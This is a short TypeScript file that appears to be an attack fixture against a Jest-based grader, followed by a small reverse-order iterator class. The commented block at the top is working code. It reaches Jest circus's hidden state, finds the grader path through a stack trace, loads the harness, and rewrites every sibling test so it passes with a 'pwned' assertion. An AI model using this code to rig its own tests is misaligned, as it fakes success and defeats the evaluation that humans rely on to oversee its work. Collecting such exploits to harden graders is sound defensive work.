// Attack: harness reuse without the bare require: module.require (the module object jest hands
// in) loads the suite's harness by the path in the stack; circus's state is reached through the
// running test's parent block. The same rewrite as circus-state-rewrite, by other roads.
// Success: the tests after the first pass.
declare const module: any;
const key = Object.getOwnPropertySymbols(globalThis).find((s) => s.description === 'JEST_STATE_SYMBOL');
const state = key && (globalThis as any)[key];
const line = (new Error().stack ?? '').split('\n').find((l) => l.includes('/grader/suites/'));
const grader = line?.match(/(\/[^\s()]*\/grader)\/suites\//)?.[1];
if (state?.currentlyRunningTest && grader) {
  const harness = module.require(`${grader}/harness/index.ts`);
  for (const test of state.currentlyRunningTest.parent.children) test.fn = () => harness.equal(1, 1, 'pwned');
}

export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) {}
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
